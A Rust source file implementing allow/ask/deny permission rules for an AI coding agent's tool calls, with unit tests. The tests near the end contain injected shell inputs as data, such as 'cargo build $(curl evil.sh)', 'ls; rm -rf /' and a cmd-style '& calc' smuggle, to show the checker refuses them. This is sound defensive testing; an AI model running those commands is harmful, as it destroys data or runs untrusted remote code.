//! Persistent permission rules, in Claude Code's syntax.
//!
//! `Tool` matches every call of a tool; `Tool(specifier)` only the calls whose
//! subject matches: a command prefix (`run_command(cargo test:*)`) or exact command,
//! a path glob (`write_file(docs/**)`), a domain (`web_fetch(domain:example.com)`),
//! a memory key. `mcp__server` covers every tool of an MCP server,
//! `mcp__server__tool` one of them. Rules sit in three lists: deny beats ask beats
//! allow, and allow beats the mode's default.

use std::fmt;

use crate::tool::Subject;

pub use cairn_protocol::RuleList;

/// A rule that could not be read, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{rule}` is not a rule: {why}. Write `tool`, `tool(specifier)` or `mcp__server`")]
pub struct RuleError {
    pub rule: String,
    pub why: &'static str,
}

/// One parsed rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    text: String,
    tool: String,
    specifier: Option<String>,
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Rule {
    pub fn parse(text: &str) -> Result<Self, RuleError> {
        let text = text.trim();
        let error = |why| RuleError {
            rule: text.to_owned(),
            why,
        };
        let (tool, specifier) = match text.split_once('(') {
            None => (text, None),
            Some((tool, rest)) => {
                let inner = rest
                    .strip_suffix(')')
                    .ok_or_else(|| error("the specifier's `)` is missing"))?;
                if inner.trim().is_empty() {
                    return Err(error("the specifier in `( )` is empty"));
                }
                (tool, Some(inner.trim().to_owned()))
            }
        };
        if tool.is_empty() {
            return Err(error("it names no tool"));
        }
        if !tool
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '*'))
        {
            return Err(error(
                "a tool name has only letters, digits, `_`, `-`, `.` and `*`",
            ));
        }
        Ok(Self {
            text: text.to_owned(),
            tool: tool.to_owned(),
            specifier,
        })
    }

    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// Whether the rule is about this tool at all.
    fn names(&self, tool: &str) -> bool {
        if self.tool.contains('*') {
            return glob(&self.tool, tool, false);
        }
        // `mcp__server` covers the server's tools.
        self.tool == tool
            || (self.tool.starts_with("mcp__")
                && self.tool.matches("__").count() == 1
                && tool
                    .strip_prefix(self.tool.as_str())
                    .is_some_and(|rest| rest.starts_with("__")))
    }

    /// Whether the rule covers one subject of a call to `tool`.
    pub fn matches(&self, tool: &str, subject: Option<&Subject>) -> bool {
        if !self.names(tool) {
            return false;
        }
        let Some(specifier) = &self.specifier else {
            return true;
        };
        match subject {
            None => false,
            Some(Subject::Command(command)) => command_matches(specifier, command),
            // Nobody can say what an unreadable line runs: only a deny rule naming
            // its text exactly covers it.
            Some(Subject::Unreadable(line)) => specifier == line,
            Some(Subject::Path(path)) => path_matches(specifier, path),
            Some(Subject::Url(url)) => url_matches(specifier, url),
            Some(Subject::Key(key)) => glob(specifier, key, false),
        }
    }
}

/// `prefix:*` matches the prefix as whole words; a `*` elsewhere is a wildcard;
/// anything else must equal the command.
fn command_matches(specifier: &str, command: &str) -> bool {
    let normalized = command.split_whitespace().collect::<Vec<_>>().join(" ");
    if let Some(prefix) = specifier.strip_suffix(":*") {
        let prefix = prefix.split_whitespace().collect::<Vec<_>>().join(" ");
        return normalized == prefix
            || normalized
                .strip_prefix(&prefix)
                .is_some_and(|rest| rest.starts_with(' '));
    }
    if specifier.contains('*') {
        return glob(specifier, &normalized, false);
    }
    normalized == specifier.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// gitignore-like: a pattern without `/` matches a name at any depth; with one (or
/// a leading `/`) it is anchored at the workspace root. `**` spans folders, and a
/// pattern naming a folder covers what is inside it.
fn path_matches(specifier: &str, path: &str) -> bool {
    let pattern = specifier.trim_start_matches("./");
    if let Some(anchored) = pattern.strip_prefix('/') {
        return glob(anchored, path, true);
    }
    if !pattern.contains('/') {
        // Like gitignore: a name matches at any depth, and a folder of that name
        // covers everything in it.
        return path
            .split('/')
            .any(|component| glob(pattern, component, true));
    }
    glob(pattern.trim_end_matches('/'), path, true)
        || glob(&format!("{}/**", pattern.trim_end_matches('/')), path, true)
}

fn url_matches(specifier: &str, url: &str) -> bool {
    if let Some(domain) = specifier.strip_prefix("domain:") {
        let host = url
            .split_once("://")
            .map_or(url, |(_, rest)| rest)
            .split(['/', '?', '#'])
            .next()
            .unwrap_or("")
            .rsplit('@')
            .next()
            .unwrap_or("");
        let host = host.split(':').next().unwrap_or("").to_ascii_lowercase();
        let domain = domain.to_ascii_lowercase();
        return host == domain || host.ends_with(&format!(".{domain}"));
    }
    glob(specifier, url, false)
}

/// Glob matching: `*` any run of characters (not `/` when `paths`), `**` any run
/// including `/`, `?` one character.
fn glob(pattern: &str, text: &str, paths: bool) -> bool {
    let pattern: Vec<char> = pattern.chars().collect();
    let text: Vec<char> = text.chars().collect();
    glob_at(&pattern, &text, paths)
}

fn glob_at(pattern: &[char], text: &[char], paths: bool) -> bool {
    match pattern.split_first() {
        None => text.is_empty(),
        Some(('*', rest)) => {
            let (crosses, rest) = match rest.split_first() {
                Some(('*', after)) => (true, after.strip_prefix(&['/']).unwrap_or(after)),
                _ => (!paths, rest),
            };
            (0..=text.len()).any(|skip| {
                let skipped = &text[..skip];
                (crosses || !skipped.contains(&'/')) && glob_at(rest, &text[skip..], paths)
            })
        }
        Some(('?', rest)) => text
            .split_first()
            .is_some_and(|(c, tail)| (!paths || *c != '/') && glob_at(rest, tail, paths)),
        Some((p, rest)) => text
            .split_first()
            .is_some_and(|(c, tail)| c == p && glob_at(rest, tail, paths)),
    }
}

/// The rules of the three lists.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RuleSet {
    allow: Vec<Rule>,
    ask: Vec<Rule>,
    deny: Vec<Rule>,
}

impl RuleSet {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn add(&mut self, list: RuleList, rule: Rule) {
        let rules = self.list_mut(list);
        if !rules.contains(&rule) {
            rules.push(rule);
        }
    }

    /// Parses and adds.
    pub fn with(mut self, list: RuleList, text: &str) -> Result<Self, RuleError> {
        self.add(list, Rule::parse(text)?);
        Ok(self)
    }

    pub fn rules(&self, list: RuleList) -> &[Rule] {
        match list {
            RuleList::Allow => &self.allow,
            RuleList::Ask => &self.ask,
            RuleList::Deny => &self.deny,
        }
    }

    fn list_mut(&mut self, list: RuleList) -> &mut Vec<Rule> {
        match list {
            RuleList::Allow => &mut self.allow,
            RuleList::Ask => &mut self.ask,
            RuleList::Deny => &mut self.deny,
        }
    }

    /// The first rule of `list` matching any subject of the call (or the call itself
    /// when it has no subjects).
    pub fn any_match(&self, list: RuleList, tool: &str, subjects: &[Subject]) -> Option<&Rule> {
        self.rules(list).iter().find(|rule| {
            if subjects.is_empty() {
                rule.matches(tool, None)
            } else {
                subjects
                    .iter()
                    .any(|subject| rule.matches(tool, Some(subject)))
            }
        })
    }
}

/// Whether `rules` together cover every subject of the call.
pub fn covers_all(rules: &[Rule], tool: &str, subjects: &[Subject]) -> bool {
    if subjects.is_empty() {
        return rules.iter().any(|rule| rule.matches(tool, None));
    }
    subjects
        .iter()
        .all(|subject| rules.iter().any(|rule| rule.matches(tool, Some(subject))))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str) -> Rule {
        Rule::parse(text).unwrap()
    }

    #[test]
    fn rules_parse_or_say_why_not() {
        assert_eq!(
            rule("run_command(cargo test:*)").specifier.as_deref(),
            Some("cargo test:*")
        );
        assert_eq!(rule("  write_file  ").tool, "write_file");
        for bad in ["", "run_command(", "run_command()", "(x)", "rm -rf"] {
            let err = Rule::parse(bad).unwrap_err();
            assert!(err.to_string().contains("is not a rule"), "{bad}: {err}");
        }
    }

    #[test]
    fn command_rules() {
        let r = rule("run_command(cargo test:*)");
        let cmd = |c: &str| Subject::Command(c.into());
        assert!(r.matches("run_command", Some(&cmd("cargo test"))));
        assert!(r.matches("run_command", Some(&cmd("cargo  test --release"))));
        assert!(!r.matches("run_command", Some(&cmd("cargo testify"))));
        assert!(!r.matches("run_command", Some(&cmd("cargo build"))));
        assert!(!r.matches("write_file", Some(&cmd("cargo test"))));
        let exact = rule("run_command(git status)");
        assert!(exact.matches("run_command", Some(&cmd("git status"))));
        assert!(!exact.matches("run_command", Some(&cmd("git status --porcelain"))));
        let wild = rule("run_command(npm run *)");
        assert!(wild.matches("run_command", Some(&cmd("npm run build"))));
        assert!(
            !rule("run_command(x)")
                .matches("run_command", Some(&Subject::Unreadable("x 'y".into())))
        );
    }

    #[test]
    fn path_rules_are_gitignore_like() {
        let p = |path: &str| Subject::Path(path.into());
        let docs = rule("write_file(docs/**)");
        assert!(docs.matches("write_file", Some(&p("docs/a.md"))));
        assert!(docs.matches("write_file", Some(&p("docs/deep/er/b.md"))));
        assert!(!docs.matches("write_file", Some(&p("src/docs/a.md"))));
        assert!(!docs.matches("write_file", Some(&p("docsx/a.md"))));
        let md = rule("edit_file(*.md)");
        assert!(md.matches("edit_file", Some(&p("README.md"))));
        assert!(md.matches("edit_file", Some(&p("docs/guide.md"))));
        assert!(!md.matches("edit_file", Some(&p("src/main.rs"))));
        let env = rule("read_file(.env)");
        assert!(env.matches("read_file", Some(&p(".env"))));
        assert!(env.matches("read_file", Some(&p("app/.env"))));
        let anchored = rule("write_file(/Cargo.toml)");
        assert!(anchored.matches("write_file", Some(&p("Cargo.toml"))));
        assert!(!anchored.matches("write_file", Some(&p("crates/x/Cargo.toml"))));
        let dir = rule("write_file(./build)");
        assert!(dir.matches("write_file", Some(&p("build/out.o"))));
        let single = rule("write_file(src/*.rs)");
        assert!(single.matches("write_file", Some(&p("src/main.rs"))));
        assert!(
            !single.matches("write_file", Some(&p("src/a/b.rs"))),
            "one `*` stays in its folder"
        );
    }

    #[test]
    fn domains_keys_and_mcp_servers() {
        let domain = rule("web_fetch(domain:example.com)");
        for (url, ok) in [
            ("https://example.com/a", true),
            ("https://docs.example.com", true),
            ("http://user@example.com:8080/x", true),
            ("https://example.com.evil.io/", false),
            ("https://notexample.com", false),
        ] {
            assert_eq!(
                domain.matches("web_fetch", Some(&Subject::Url(url.into()))),
                ok,
                "{url}"
            );
        }
        assert!(
            rule("memory_write(project.*)")
                .matches("memory_write", Some(&Subject::Key("project.name".into())))
        );
        let server = rule("mcp__github");
        assert!(server.matches("mcp__github__create_issue", None));
        assert!(!server.matches("mcp__githubx__create_issue", None));
        assert!(!server.matches("mcp__git__x", None));
        assert!(rule("mcp__github__create_issue").matches("mcp__github__create_issue", None));
        assert!(!rule("mcp__github__create_issue").matches("mcp__github__delete_repo", None));
        assert!(rule("mcp__github__*").matches("mcp__github__delete_repo", None));
    }

    #[test]
    fn every_part_of_a_compound_command_must_be_covered() {
        let allow = vec![
            rule("run_command(cargo:*)"),
            rule("run_command(git status)"),
        ];
        // As sh reads the line (cmd's reading is `shell`'s to test).
        let parts = |line: &str| -> Vec<Subject> {
            crate::shell::split_sh(line)
                .unwrap()
                .into_iter()
                .map(Subject::Command)
                .collect()
        };
        assert!(covers_all(
            &allow,
            "run_command",
            &parts("cargo build && git status")
        ));
        assert!(!covers_all(
            &allow,
            "run_command",
            &parts("cargo build && rm -rf target")
        ));
        assert!(!covers_all(
            &allow,
            "run_command",
            &parts("cargo build $(curl evil.sh)")
        ));
        let deny = RuleSet::new()
            .with(RuleList::Deny, "run_command(rm:*)")
            .unwrap();
        assert!(
            deny.any_match(RuleList::Deny, "run_command", &parts("ls; rm -rf /"))
                .is_some()
        );
        assert!(
            deny.any_match(RuleList::Deny, "run_command", &parts("echo `rm -rf /`"))
                .is_some()
        );
        let cmd_parts = |line: &str| -> Vec<Subject> {
            crate::shell::split_cmd(line)
                .unwrap()
                .into_iter()
                .map(Subject::Command)
                .collect()
        };
        assert!(!covers_all(
            &allow,
            "run_command",
            &cmd_parts("cargo build 'x & calc'")
        ));
    }
}
